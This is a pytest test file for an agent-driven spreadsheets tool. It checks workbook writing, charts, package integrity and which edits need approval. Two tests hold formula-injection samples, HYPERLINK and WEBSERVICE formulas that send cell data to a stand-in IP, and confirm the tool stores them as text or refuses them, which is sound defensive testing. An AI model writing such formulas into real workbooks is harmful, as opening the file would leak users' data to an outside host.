"""The spreadsheets application on real .xlsx files, read back with openpyxl (and as a zip package)."""

from __future__ import annotations

import posixpath
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference

from podium.apps.spreadsheets import SpreadsheetsApplication
from podium.apps.workspace import Workspace
from podium.apps.xlsx_package import Package, drawing_summary, resolve
from podium.desktop.host.catalog import AppInfo
from tests.apps.xlsx_craft import DATA, excel_style_workbook, tiny_png

TABLE = [["Quarter", "Revenue", "Costs"], ["Q1", "1,200", "800"], ["Q2", "1350.5", "900"], ["Q3", "1500", "950"]]


@pytest.fixture
def sheets(workspace: Workspace) -> SpreadsheetsApplication:
    return SpreadsheetsApplication(workspace)


def check_package(path: Path) -> Package:
    """Every internal relationship points at a part, and every part has a content type."""
    package = Package(path.read_bytes())
    defaults, overrides = package.content_types()
    for part in package.parts:
        if part.endswith(".rels") or part == "[Content_Types].xml":
            continue
        extension = posixpath.splitext(part)[1].lstrip(".").lower()
        assert part in overrides or extension in defaults, f"{part} has no content type"
        for rel in package.rels(part):
            if not rel.external:
                assert resolve(rel.target, part) in package.parts, f"{part} -> {rel.target} is dangling"
    for part in overrides:
        assert part in package.parts, f"content type declared for a missing part {part}"
    return package


def charts_in(path: Path, sheet: str) -> list[etree._Element]:
    """The chart XML roots the sheet's drawing points at, in the package itself (not via openpyxl)."""
    package = Package(path.read_bytes())
    found = package.drawing_of(package.sheets()[sheet])
    if found is None:
        return []
    return [
        etree.fromstring(package.parts[resolve(r.target, found[1])])
        for r in package.rels(found[1])
        if r.type.endswith("/chart")
    ]


async def test_create_write_read_and_text_that_looks_like_a_formula(sheets: SpreadsheetsApplication,
                                                                   root: Path) -> None:
    assert (await sheets.call("create_workbook", {"path": "budget.xlsx", "sheets": ["Budget", "Other"]})).ok
    rows = [*TABLE, ["Total", "=SUM(B2:B4)", "=SUM(C2:C4)"]]
    written = await sheets.call("write_rows", {"path": "budget.xlsx", "sheet": "Budget", "rows": rows})
    assert written.content["range"] == "A1:C5"
    # values are data: "=..." is written as the text it is, and the result says so and names the tool for sums
    assert written.content["note"].startswith("B5, C5: written as text, not as a formula")
    assert "add_totals_row" in written.content["note"]
    workbook = load_workbook(root / "budget.xlsx")
    assert workbook.sheetnames == ["Budget", "Other"]
    sheet = workbook["Budget"]
    assert [sheet["B2"].value, sheet["B3"].value, sheet["C4"].value] == [1200, 1350.5, 950]  # text became numbers
    assert sheet["B5"].value == "=SUM(B2:B4)" and sheet["B5"].data_type == "s"
    read = await sheets.call("read_sheet", {"path": "budget.xlsx", "sheet": "Budget", "range": "A4:C5"})
    assert read.content["rows"] == [["Q3", 1500, 950], ["Total", "=SUM(B2:B4)", "=SUM(C2:C4)"]]
    whole = await sheets.call("read_sheet", {"path": "budget.xlsx", "sheet": "Budget"})
    assert whole.content["range"] == "A1:C5" and len(whole.content["rows"]) == 5
    empty = await sheets.call("read_sheet", {"path": "budget.xlsx", "sheet": "Other"})
    assert empty.content["rows"] == [] and empty.content["range"] is None


async def test_a_whole_read_names_the_empty_cells_of_its_table(sheets: SpreadsheetsApplication) -> None:
    await sheets.call("create_workbook", {"path": "c.xlsx"})
    await sheets.call("write_rows", {"path": "c.xlsx", "start": "B2", "rows": [
        ["Contacts"], [], ["Company", "Contact", "Phone", "Email"], ["Bolt", "Maria", "+44 1", "m@bolt.example"],
        ["Acme", "John", None, None], [], ["Nimbus", None, "+34 9", "ana@nimbus.example"], ["only a note"]]})
    whole = await sheets.call("read_sheet", {"path": "c.xlsx"})
    # the table's gaps, by address, column and row label; not the title's row, the empty row or the lone note's
    assert whole.content["empty_cells"] == [
        {"cell": "D6", "column": "Phone", "row": "Acme"}, {"cell": "E6", "column": "Email", "row": "Acme"},
        {"cell": "C8", "column": "Contact", "row": "Nimbus"}]
    part = await sheets.call("read_sheet", {"path": "c.xlsx", "range": "B4:E5"})
    assert "empty_cells" not in part.content  # a range read says what it shows, nothing more
    await sheets.call("create_workbook", {"path": "full.xlsx"})
    await sheets.call("write_rows", {"path": "full.xlsx", "rows": [["A", "B"], [1, 2]]})
    assert "empty_cells" not in (await sheets.call("read_sheet", {"path": "full.xlsx"})).content


async def test_write_at_a_cell_keeps_text_when_asked(sheets: SpreadsheetsApplication, root: Path) -> None:
    await sheets.call("create_workbook", {"path": "b.xlsx"})
    await sheets.call("write_rows", {"path": "b.xlsx", "start": "C3",
                                     "rows": [["'007", "1,200", "'it's", "'Friday'", '"12"']]})
    sheet = load_workbook(root / "b.xlsx").active
    assert sheet["C3"].value == "007" and sheet["D3"].value == 1200 and sheet["E3"].value == "it's"
    assert sheet["F3"].value == "Friday" and sheet["G3"].value == "12"  # quoted as the request quoted it
    headless = await sheets.call("write_rows", {"path": "b.xlsx", "rows": [[], ["Stapler", 12]]})
    assert not headless.ok and "the first row is empty" in headless.error
    assert load_workbook(root / "b.xlsx").active["A2"].value is None
    assert (await sheets.call("set_cell", {"path": "b.xlsx", "cell": "D3", "value": None})).ok  # clearing one cell
    assert (await sheets.call("set_cell", {"path": "b.xlsx", "cell": "A1", "value": "kept"})).ok
    pair = {"path": "b.xlsx", "rows": [["B2", "Friday"]], "start": "A1"}  # "write Friday into B2", as the model did
    assert not sheets.is_sensitive("write_rows", pair)  # refused at once, not held for an approval
    address = await sheets.call("write_rows", pair)
    assert not address.ok and "call set_cell with cell='B2'" in address.error
    assert load_workbook(root / "b.xlsx").active["A1"].value == "kept"
    at_itself = await sheets.call("write_rows", {**pair, "start": "B2"})  # the address into its own cell
    assert not at_itself.ok and "call set_cell" in at_itself.error
    quarter = {"path": "b.xlsx", "start": "A20", "rows": [["Q4", 160]]}  # data that looks like an address
    assert (await sheets.call("write_rows", quarter)).ok
    table = {"path": "b.xlsx", "start": "A21", "rows": [["Quarter", "Sales"], ["Q1", 10]]}
    assert (await sheets.call("write_rows", table)).ok
    assert (await sheets.call("write_rows", {**pair, "start": "A9", "rows": [["'B2", "Friday"]]})).ok  # text, said so
    assert load_workbook(root / "b.xlsx").active["D3"].value is None
    flag = await sheets.call("write_rows", {"path": "b.xlsx", "rows": [["007"]], "keep_text": True})
    assert not flag.ok and "keep_text" in flag.error  # no such flag: the apostrophe says it


async def test_column_totals_skip_a_title_text_and_formulas(sheets: SpreadsheetsApplication, root: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "Expenses 2024"  # a title above the table
    rows = [["Ref", "Date", "Amount", "Note"], [101, "2024-01-03", 12.5, "x"], [102, "2024-01-09", 30, "n/a"],
            [103, "2024-02-01", "7", None], [104, "2024-02-11", 7.25, "y"], [None, None, "=SUM(C4:C7)", None]]
    for r, row in enumerate(rows, start=3):
        for c, value in enumerate(row, start=1):
            sheet.cell(r, c, value)
    book.save(root / "e.xlsx")
    before = (root / "e.xlsx").read_bytes()
    result = await sheets.call("column_totals", {"path": "e.xlsx"})
    assert result.ok, result.error
    assert result.content["header_row"] == 3 and result.content["data_rows"] == "4-8"
    assert result.content["columns"] == {
        "Ref": {"column": "A", "sum": 410, "count": 4, "min": 101, "max": 104, "mean": 102.5},
        "Amount": {"column": "C", "sum": 49.75, "count": 3, "min": 7.25, "max": 30, "mean": 16.5833333333}}
    assert (root / "e.xlsx").read_bytes() == before  # a read
    one = await sheets.call("column_totals", {"path": "e.xlsx", "range": "C1:C8"})  # one column: its first text
    assert one.ok and one.content["header_row"] == 3 and one.content["columns"]["Amount"]["sum"] == 49.75
    empty = await sheets.call("create_workbook", {"path": "n.xlsx"})
    assert empty.ok and "empty" in (await sheets.call("column_totals", {"path": "n.xlsx"})).error
    # a range without numbers (the Date column): the whole sheet's totals, saying so
    dates = await sheets.call("column_totals", {"path": "e.xlsx", "range": "B3:B8"})
    assert dates.ok and dates.content["columns"] == result.content["columns"]
    assert dates.content["note"] == "Sheet!B3:B8 has no column of numbers; these are the totals of the whole sheet"
    words = Workbook()
    words.active.append(["Name", "Team"])
    words.active.append(["Ann", "Blue"])
    words.save(root / "w.xlsx")
    none = await sheets.call("column_totals", {"path": "w.xlsx"})
    assert not none.ok and "no column of numbers under the header row 1 of Sheet!A1:B2" in none.error


@pytest.mark.parametrize(
    ("kind", "tag", "direction"),
    [
        ("bar", "barChart", "col"),
        ("horizontal_bar", "barChart", "bar"),
        ("line", "lineChart", None),
        ("pie", "pieChart", None),
    ],
)
async def test_native_charts(sheets: SpreadsheetsApplication, root: Path, kind: str, tag: str, direction) -> None:
    await sheets.call("create_workbook", {"path": "c.xlsx"})
    await sheets.call("write_rows", {"path": "c.xlsx", "rows": TABLE})
    added = await sheets.call("add_chart", {"path": "c.xlsx", "kind": kind, "data": "A1:C4", "title": "Revenue"})
    assert added.ok, added.error
    [chart] = charts_in(root / "c.xlsx", "Sheet1")
    ns = {
        "c": "http://schemas.openxmlformats.org/drawingml/2006/chart",
        "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    }
    assert chart.find(f".//c:{tag}", ns) is not None
    if direction:
        assert chart.find(".//c:barDir", ns).get("val") == direction
    assert "".join(chart.xpath(".//c:title//a:t/text()", namespaces=ns)) == "Revenue"
    formulas = chart.xpath(".//c:val//c:f/text()", namespaces=ns)
    assert formulas[0] == "'Sheet1'!$B$2:$B$4"
    assert chart.xpath(".//c:cat//c:f/text()", namespaces=ns)[0] == "'Sheet1'!$A$2:$A$4"
    check_package(root / "c.xlsx")


@pytest.mark.parametrize("closing", [["Total", "=SUM(B2:B3)", "=SUM(C2:C3)"], ["Q9", "=SUM(B2:B3)", "=sum(C2:C3)"],
                                     ["Grand total", 3, 5]])
async def test_a_totals_row_closing_the_range_is_left_out_of_the_chart(
        sheets: SpreadsheetsApplication, root: Path, closing: list[object]) -> None:
    rows = [["Month", "Revenue", "Costs"], ["Jan", 1, 2], ["Feb", 2, 3], closing]
    await sheets.call("create_workbook", {"path": "t.xlsx"})
    await sheets.call("write_rows", {"path": "t.xlsx", "rows": rows})
    added = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "line", "data": "A1:C4", "title": "Costs"})
    assert added.ok and added.content["note"] == "row 4 left out of the chart: it totals the rows above"
    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
    [chart] = charts_in(root / "t.xlsx", "Sheet1")
    assert chart.xpath(".//c:val//c:f/text()", namespaces=ns) == ["'Sheet1'!$B$2:$B$3", "'Sheet1'!$C$2:$C$3"]
    # a sheet to put it on that the workbook lacks: on the data's sheet, said so
    elsewhere = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "line", "data": "A1:C3", "title": "Costs",
                                                "sheet": "Costs"})
    assert elsewhere.ok and elsewhere.content["sheet"] == "Sheet1"
    assert elsewhere.content["note"] == "no sheet named 'Costs': the chart is on 'Sheet1', with its data"
    # a data range on a sheet the workbook lacks, when it has one sheet: that sheet's, said so; the sheet's
    # name in other letter case is the sheet
    guessed = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "bar", "data": "ref1.table!A1:C3",
                                              "title": "Bars"})
    assert guessed.ok and guessed.content["data"] == "Sheet1!A1:C3"
    assert guessed.content["note"] == "no sheet named 'ref1.table': the data is read from 'Sheet1', the only sheet"
    cased = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "bar", "data": "sheet1!A1:B3", "title": "B"})
    assert cased.ok and cased.content["data"] == "Sheet1!A1:B3" and "note" not in cased.content
    # a first row / column of text is the names / categories whatever the call says; no chart over its table
    told = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "pie", "data": "A1:B3", "title": "Pie",
                                           "header_row": False, "categories_in_first_column": False, "anchor": "A1"})
    assert told.ok and told.content["anchor"] != "A1"
    assert told.content["note"] == ("row 1 holds only text: taken as the series names; the first column holds only "
                                    f"text: taken as the categories; A1 is inside the data: the chart is at "
                                    f"{told.content['anchor']}, right of it")
    pie = next(c for c in charts_in(root / "t.xlsx", "Sheet1") if "Pie" in " ".join(c.itertext()))
    assert pie.xpath(".//c:val//c:f/text()", namespaces=ns) == ["'Sheet1'!$B$2:$B$3"]
    empty = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "bar", "data": "F1:H5", "title": "Nothing"})
    # beside the sheet's table: where the table is; on an empty sheet: what to do first
    assert empty.error == ("add_chart: Sheet1!F1:H5 is empty; the table of 'Sheet1' (header row first) is A1:C4: "
                           "chart that range, or some of its columns")
    # cells of the header row alone name their columns: the table's, those columns as series
    header = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "bar", "data": "C1", "title": "Costs only"})
    assert header.ok and header.content["data"] == "Sheet1!A1:C4"
    assert header.content["note"].startswith("C1 is the table's header row: the chart is of A1:C4 columns C")
    costs = next(c for c in charts_in(root / "t.xlsx", "Sheet1") if "Costs only" in " ".join(c.itertext()))
    assert costs.xpath(".//c:val//c:f/text()", namespaces=ns) == ["'Sheet1'!$C$2:$C$3"]
    # the values under the header row, without it (and without the categories): the table's header names them
    for values, series in (("B2:B3", ["'Sheet1'!$B$2:$B$3"]), ("A2:C3", ["'Sheet1'!$B$2:$B$3", "'Sheet1'!$C$2:$C$3"])):
        under = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "pie", "data": values, "title": values})
        assert under.ok and under.content["data"] == f"Sheet1!A1:{values[-2:]}", under.error
        assert under.content["note"].startswith(f"{values} leaves out the table's header row: the chart is of A1:")
        drawn = next(c for c in charts_in(root / "t.xlsx", "Sheet1") if values in " ".join(c.itertext()))
        assert drawn.xpath(".//c:val//c:f/text()", namespaces=ns) == series
        assert drawn.xpath(".//c:cat//c:f/text()", namespaces=ns)[0] == "'Sheet1'!$A$2:$A$3"
    await sheets.call("add_sheet", {"path": "t.xlsx", "name": "Blank"})
    blank = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "bar", "data": "Blank!A1:B3", "title": "None"})
    assert blank.error == ("add_chart: Blank!A1:B3 is empty: write the rows into the sheet first (write_rows), then "
                           "chart the range they fill")
    # the workbook's own name before the range ('t.xlsx!A1:C3') is no sheet: the range is the workbook's
    for named in ("t.xlsx!A1:C3", "T!A1:C2"):
        own = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "pie", "data": named, "title": named})
        assert own.ok and own.content["data"] == f"Sheet1!{named.split('!')[1]}", own.error
    # a last row of ordinary values (or a formula that is no sum) is data
    await sheets.call("write_rows", {"path": "t.xlsx", "start": "A4", "rows": [["Mar", "=B3+1", 4]]})
    plain = await sheets.call("add_chart", {"path": "t.xlsx", "kind": "bar", "data": "A1:C4", "title": "All"})
    assert plain.ok and "note" not in plain.content


async def test_values_starting_with_equals_are_text_in_every_writing_tool(
        sheets: SpreadsheetsApplication, root: Path) -> None:
    # =HYPERLINK("http://...?"&B2) or =WEBSERVICE(...) from a document's text would send the workbook's data
    # away when the person opens it: written by write_rows, set_cell or append_rows, it is text.
    await sheets.call("create_workbook", {"path": "i.xlsx", "sheets": ["Invoices"]})
    await sheets.call("write_rows", {"path": "i.xlsx", "rows": [["Client", "Net"], ["Ann", 10], ["Bo", 20]]})
    leak = '=HYPERLINK("http://198.51.100.7/?"&B2,"details")'
    appended = await sheets.call("append_rows", {"path": "i.xlsx", "rows": [["Cy", "=WEBSERVICE(\"http://x\")"]]})
    assert appended.ok and appended.content["note"].startswith("B4: written as text")
    assert (await sheets.call("set_cell", {"path": "i.xlsx", "cell": "C2", "value": leak})).ok
    sheet = load_workbook(root / "i.xlsx")["Invoices"]
    assert (sheet["B4"].data_type, sheet["C2"].data_type, sheet["C2"].value) == ("s", "s", leak)
    # they stay text when the workbook is saved again for another change, and when rows are sorted elsewhere
    assert (await sheets.call("set_cell", {"path": "i.xlsx", "cell": "D1", "value": "Note"})).ok
    assert (await sheets.call("sort_rows", {"path": "i.xlsx", "by": "Client", "order": "ascending",
                                            "target_sheet": "Sorted"})).ok
    workbook = load_workbook(root / "i.xlsx")
    assert workbook["Invoices"]["C2"].data_type == "s"
    moved = [c for row in workbook["Sorted"].iter_rows() for c in row if isinstance(c.value, str)
             and c.value.startswith("=")]
    assert moved and all(c.data_type == "s" for c in moved)
    # writing the same text again over a formula of that text is a change (text for a live formula)
    assert (await sheets.call("add_totals_row", {"path": "i.xlsx", "sheet": "Sorted"})).ok
    totals = load_workbook(root / "i.xlsx")["Sorted"]
    formula = next(c for row in totals.iter_rows() for c in row if c.data_type == "f")
    again = await sheets.call("set_cell", {"path": "i.xlsx", "sheet": "Sorted", "cell": formula.coordinate,
                                           "value": formula.value})
    assert again.ok and "unchanged" not in again.content


async def test_only_allowed_functions_are_written_as_formulas(sheets: SpreadsheetsApplication, root: Path) -> None:
    # A formula already in a workbook that calls WEBSERVICE is not carried into a sorted copy.
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for row in (["Item", "Amount"], ["a", 2], ["b", "=WEBSERVICE(\"http://198.51.100.7/\"&A2)"]):
        sheet.append(row)
    workbook.save(root / "w.xlsx")
    before = (root / "w.xlsx").read_bytes()
    refused = await sheets.call("sort_rows", {"path": "w.xlsx", "by": "Item", "order": "ascending",
                                              "target_sheet": "Sorted"})
    assert not refused.ok and "WEBSERVICE" in refused.error and (root / "w.xlsx").read_bytes() == before


async def test_a_change_already_made_is_not_made_again(sheets: SpreadsheetsApplication, root: Path) -> None:
    # A small model repeats its last calls with cosmetic changes ('A1:C4' / 'Sheet1!A1:C4', the default
    # sheet named): each repeat used to add another chart.
    await sheets.call("create_workbook", {"path": "c.xlsx"})
    assert "unchanged" not in (await sheets.call("write_rows", {"path": "c.xlsx", "rows": TABLE})).content
    before = (root / "c.xlsx").read_bytes()
    again = await sheets.call("write_rows", {"path": "c.xlsx", "sheet": "Sheet1", "start": "A1", "rows": TABLE})
    assert again.ok and again.content["unchanged"] is True and (root / "c.xlsx").read_bytes() == before
    chart = {"path": "c.xlsx", "kind": "bar", "data": "A1:C4", "title": "Revenue"}
    assert "unchanged" not in (await sheets.call("add_chart", chart)).content
    same = await sheets.call("add_chart", {**chart, "data": "Sheet1!$A$1:$C$4", "anchor": "H20"})
    assert same.ok and same.content["unchanged"] is True
    assert len(charts_in(root / "c.xlsx", "Sheet1")) == 1
    other = await sheets.call("add_chart", {**chart, "kind": "line"})  # another chart is another change
    assert "unchanged" not in other.content and len(charts_in(root / "c.xlsx", "Sheet1")) == 2
    # the file changed since (a new value): the same chart asked for again is added, as asked
    await sheets.call("write_rows", {"path": "c.xlsx", "start": "A6", "rows": [["x", 1, 2]]})
    assert "unchanged" not in (await sheets.call("add_chart", chart)).content


async def test_existing_openpyxl_chart_survives_edits(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    for row in [["k", "v"], ["a", 1], ["b", 2]]:
        sheet.append(row)
    chart = BarChart()
    chart.title = "Made before"
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "E2")
    workbook.save(root / "old.xlsx")
    original_chart = zipfile.ZipFile(root / "old.xlsx").read("xl/charts/chart1.xml")

    assert (await sheets.call("write_rows", {"path": "old.xlsx", "start": "A4", "rows": [["c", 3]]})).ok
    assert (await sheets.call("add_chart", {"path": "old.xlsx", "kind": "line", "data": "A1:B4", "title": "New"})).ok
    assert (await sheets.call("write_rows", {"path": "old.xlsx", "start": "A5", "rows": [["d", 4]]})).ok
    assert (await sheets.call("append_rows", {"path": "old.xlsx", "rows": [["e", 5]]})).content["range"] == "A6:B6"
    assert (await sheets.call("set_cell", {"path": "old.xlsx", "cell": "C1", "value": "note"})).ok

    package = check_package(root / "old.xlsx")
    assert original_chart in package.parts.values()  # byte for byte, not re-serialised
    titles = [" ".join(c.itertext()) for c in charts_in(root / "old.xlsx", "Sheet")]
    assert len(titles) == 2 and any("Made before" in t for t in titles) and any("New" in t for t in titles)
    reread = load_workbook(root / "old.xlsx").active
    assert [reread["A4"].value, reread["B5"].value, reread["B6"].value, reread["C1"].value] == ["c", 4, 5, "note"]
    assert len(reread._charts) == 2


async def test_excel_written_drawing_survives_edits(sheets: SpreadsheetsApplication, root: Path) -> None:
    path = root / "excel.xlsx"
    excel_style_workbook(path)
    before = drawing_summary(path.read_bytes())
    assert before["Data"] == {"charts": 1, "pictures": 1, "shapes": 1}

    assert (
        await sheets.call("write_rows", {"path": "excel.xlsx", "sheet": "Data", "start": "A5", "rows": [["West", 40]]})
    ).ok
    added = await sheets.call(
        "add_chart", {"path": "excel.xlsx", "kind": "pie", "data": "Data!A1:B5", "title": "Share"}
    )
    assert added.ok and int(added.content["anchor"][1:]) >= 23  # placed below what is already drawn
    assert (await sheets.call("add_sheet", {"path": "excel.xlsx", "name": "Later"})).ok

    package = check_package(path)
    after = drawing_summary(path.read_bytes())
    assert after["Data"] == {"charts": 2, "pictures": 1, "shapes": 1}
    contents = set(package.parts.values())
    assert (DATA / "excel_chart1.xml").read_bytes() in contents
    assert tiny_png() in contents
    # The chart still reaches its Excel style and colour parts, unchanged.
    chart_part = next(name for name, data in package.parts.items() if data == (DATA / "excel_chart1.xml").read_bytes())
    linked = {package.parts[resolve(r.target, chart_part)] for r in package.rels(chart_part)}
    assert any(b"chartStyle" in data for data in linked) and any(b"colorStyle" in data for data in linked)
    drawing = package.parts[package.drawing_of(package.sheets()["Data"])[1]]
    assert b"Reviewed by finance" in drawing and b"a16:creationId" in drawing
    ids = etree.fromstring(drawing).xpath("//*[local-name()='cNvPr']/@id")
    assert len(ids) == len(set(ids)) == 4
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Data", "Notes", "Later"]
    assert [c.value for c in workbook["Data"]["A"]] == ["Region", "North", "South", "East", "West"]
    assert workbook["Notes"]["A1"].value == "untouched"
    listed = await sheets.call("list_sheets", {"path": "excel.xlsx"})
    assert listed.content["sheets"][0] | {} == {
        "name": "Data",
        "kind": "worksheet",
        "used_range": "A1:B5",
        "charts": 2,
        "pictures": 1,
        "shapes": 1,
    }


def test_plain_openpyxl_loses_what_we_keep(root: Path) -> None:
    """Why the graft exists: an openpyxl load+save of the same file drops the shape and style parts."""
    path = root / "excel.xlsx"
    excel_style_workbook(path)
    workbook = load_workbook(path)
    workbook.save(root / "plain.xlsx")
    plain = Package((root / "plain.xlsx").read_bytes())
    assert not any(b"Reviewed by finance" in data for data in plain.parts.values())
    assert not any(b"colorStyle" in data for data in plain.parts.values())


async def test_errors_are_clear(sheets: SpreadsheetsApplication, root: Path) -> None:
    await sheets.call("create_workbook", {"path": "e.xlsx"})
    before = (root / "e.xlsx").read_bytes()
    assert (await sheets.call("read_sheet", {"path": "e.xlsx", "sheet": "Nope"})).error == \
        "read_sheet: no sheet named 'Nope'; the sheets are ['Sheet1']"
    # writing into a sheet that is not there says how to make one
    assert (await sheets.call("write_rows", {"path": "e.xlsx", "sheet": "Nope", "rows": [[1]]})).error.endswith(
        "the sheets are ['Sheet1']: add it first with add_sheet, or sort_rows with target_sheet writes a sorted copy "
        "into a new sheet")
    assert "not a range" in (await sheets.call("read_sheet", {"path": "e.xlsx", "range": "hello"})).error
    # the schema says what a start cell is (a local model's grammar follows it); the tool says it in words
    write_rows = next(t for t in sheets.tools() if t.name == "write_rows")
    assert write_rows.parameters["properties"]["start"]["pattern"] == r"^[A-Z]{1,3}[0-9]{1,7}$"
    bad_start = await sheets.call("write_rows", {"path": "e.xlsx", "start": "1A", "rows": [[1]]})
    assert "not a cell reference" in bad_start.error
    no_values = await sheets.call("add_chart", {"path": "e.xlsx", "kind": "bar", "data": "A1:A1", "title": "x"})
    assert "no values" in no_values.error
    wrong_kind = await sheets.call("add_chart", {"path": "e.xlsx", "kind": "radar3d", "data": "A1:B2", "title": "x"})
    assert "kind" in wrong_kind.error
    taken = (await sheets.call("create_workbook", {"path": "e.xlsx"})).error
    assert "already exists: add to it or change a part of it with the tools that edit a workbook" in taken
    assert sheets.is_sensitive("create_workbook", {"path": "e.xlsx", "overwrite": True})
    assert not sheets.is_sensitive("write_rows", {"path": "e.xlsx", "rows": [[1]]})
    await sheets.call("write_rows", {"path": "e.xlsx", "rows": [["kept", "7"]]})
    before = (root / "e.xlsx").read_bytes()
    assert not sheets.is_sensitive("write_rows", {"path": "e.xlsx", "rows": [["kept", 7, "new"]]})  # same values
    assert sheets.is_sensitive("write_rows", {"path": "e.xlsx", "start": "B1", "rows": [[8]]})  # replaces 7
    assert (root / "e.xlsx").read_bytes() == before
    # the checks before a call share one parse of the file, and leave its sheet as it is: a write far below
    # the table is checked (and held for nothing) without the table's used range growing to it
    far = {"path": "e.xlsx", "start": "A40", "rows": [["kept", 7]]}
    assert not sheets.is_sensitive("write_rows", far) and not sheets.copies("write_rows", far)
    peeked = sheets._peek("e.xlsx")
    assert peeked is sheets._peek("e.xlsx") and peeked.active.max_row == 1
    assert sheets.is_sensitive("sort_rows", {"path": "e.xlsx", "by": "A", "order": "ascending"}) is False
    await sheets.call("set_cell", {"path": "e.xlsx", "cell": "A2", "value": "next"})
    assert sheets._peek("e.xlsx") is not peeked  # a changed file is parsed again
    (root / "fake.xlsx").write_text("no")
    assert "not a readable .xlsx" in (await sheets.call("read_sheet", {"path": "fake.xlsx"})).error
    assert "outside the workspace" in (await sheets.call("read_sheet", {"path": "/tmp/x.xlsx"})).error


async def test_chartsheet_chart_survives_edits(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook = Workbook()
    data = workbook.active
    data.title = "Data"
    for row in [["k", "v"], ["a", 1], ["b", 2]]:
        data.append(row)
    chart = BarChart()
    chart.title = "On its own sheet"
    chart.add_data(Reference(data, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    workbook.create_chartsheet("Chart").add_chart(chart)
    workbook.save(root / "cs.xlsx")

    assert (await sheets.call("write_rows", {"path": "cs.xlsx", "sheet": "Data", "start": "A4", "rows": [["c", 3]]})).ok
    package = check_package(root / "cs.xlsx")
    chartsheet = etree.fromstring(package.parts[package.sheets()["Chart"]])
    assert len(chartsheet.findall("{http://schemas.openxmlformats.org/spreadsheetml/2006/main}drawing")) == 1
    assert drawing_summary(package.to_bytes())["Chart"]["charts"] == 1
    assert "On its own sheet" in " ".join(charts_in(root / "cs.xlsx", "Chart")[0].itertext())
    assert load_workbook(root / "cs.xlsx")["Data"]["A4"].value == "c"


def test_the_new_writing_tools_are_listed_after_the_old_ones_keep_their_order(
        sheets: SpreadsheetsApplication) -> None:
    names = [tool.name for tool in sheets.tools()]
    old = ["list_sheets", "read_sheet", "column_totals", "create_workbook", "add_sheet", "write_rows", "add_chart"]
    assert [name for name in names if name in old] == old
    described = {tool.name: (tool.description, tool.read_only) for tool in sheets.tools()}
    assert described["set_cell"] == ("Write one value into one cell and save.", False)
    assert described["append_rows"] == ("Add rows under the last row of a sheet's table and save.", False)
    # the tools that compute from what they read say so (a plan declaring one wants its result)
    assert {t.name for t in sheets.tools() if t.computes} == {"column_totals", "column_stats", "find_duplicates"}
    assert AppInfo.of(sheets).tool("column_stats").computes and not AppInfo.of(sheets).tool("read_sheet").computes


async def test_set_cell_writes_one_value(sheets: SpreadsheetsApplication, root: Path) -> None:
    await sheets.call("create_workbook", {"path": "week.xlsx", "sheets": ["Notes", "Schedule"]})
    path = {"path": "week.xlsx", "sheet": "Schedule"}
    friday = await sheets.call("set_cell", {**path, "cell": "B2", "value": "Friday"})
    assert friday.ok, friday.error
    assert friday.content == {"path": "week.xlsx", "sheet": "Schedule", "cell": "B2", "value": "Friday"}
    assert (await sheets.call("set_cell", {**path, "cell": "$c$2", "value": "1,200"})).content["value"] == 1200
    assert (await sheets.call("set_cell", {**path, "cell": "D2", "value": "'007"})).content["value"] == "007"
    assert (await sheets.call("set_cell", {**path, "cell": "E2", "value": "=C2*2"})).ok
    named = await sheets.call("set_cell", {"path": "week.xlsx", "cell": "Schedule!A1", "value": "Day"})
    assert named.ok and named.content["sheet"] == "Schedule" and named.content["cell"] == "A1"
    book = load_workbook(root / "week.xlsx")
    sheet = book["Schedule"]
    assert [sheet["A1"].value, sheet["B2"].value, sheet["C2"].value, sheet["D2"].value, sheet["E2"].value] == [
        "Day", "Friday", 1200, "007", "=C2*2"]
    assert sheet.max_row == 2 and sheet.max_column == 5  # one cell each: no address written as a value
    assert book["Notes"]["A1"].value is None
    assert book.active.title == "Notes"  # the default sheet is the active one
    assert (await sheets.call("set_cell", {"path": "week.xlsx", "cell": "A1", "value": 1})).content["sheet"] == "Notes"


async def test_set_cell_replacing_a_value_is_sensitive_and_the_same_value_is_unchanged(
        sheets: SpreadsheetsApplication, root: Path) -> None:
    await sheets.call("create_workbook", {"path": "s.xlsx"})
    await sheets.call("write_rows", {"path": "s.xlsx", "rows": [["Day", "Monday"], ["Hours", "8"]]})
    before = (root / "s.xlsx").read_bytes()
    assert not sheets.is_sensitive("set_cell", {"path": "s.xlsx", "cell": "C1", "value": "Friday"})  # empty cell
    assert not sheets.is_sensitive("set_cell", {"path": "s.xlsx", "cell": "B2", "value": "8"})  # holds 8
    assert sheets.is_sensitive("set_cell", {"path": "s.xlsx", "cell": "B1", "value": "Friday"})  # Monday is lost
    assert sheets.is_sensitive("set_cell", {"path": "s.xlsx", "cell": "Sheet1!B2", "value": "9"})
    assert sheets.is_sensitive("set_cell", {"path": "s.xlsx", "cell": "B2", "value": None})  # clearing loses 8
    assert not sheets.is_sensitive("set_cell", {"path": "s.xlsx", "cell": "Z9Z", "value": 1})  # refused: no write
    assert (root / "s.xlsx").read_bytes() == before  # asking changes nothing
    same = await sheets.call("set_cell", {"path": "s.xlsx", "sheet": "Sheet1", "cell": "b2", "value": 8})
    assert same.ok and same.content["unchanged"] is True and "already holds" in same.content["note"]
    assert (root / "s.xlsx").read_bytes() == before  # not even saved
    replaced = await sheets.call("set_cell", {"path": "s.xlsx", "cell": "B1", "value": "Friday"})
    assert "unchanged" not in replaced.content and load_workbook(root / "s.xlsx").active["B1"].value == "Friday"


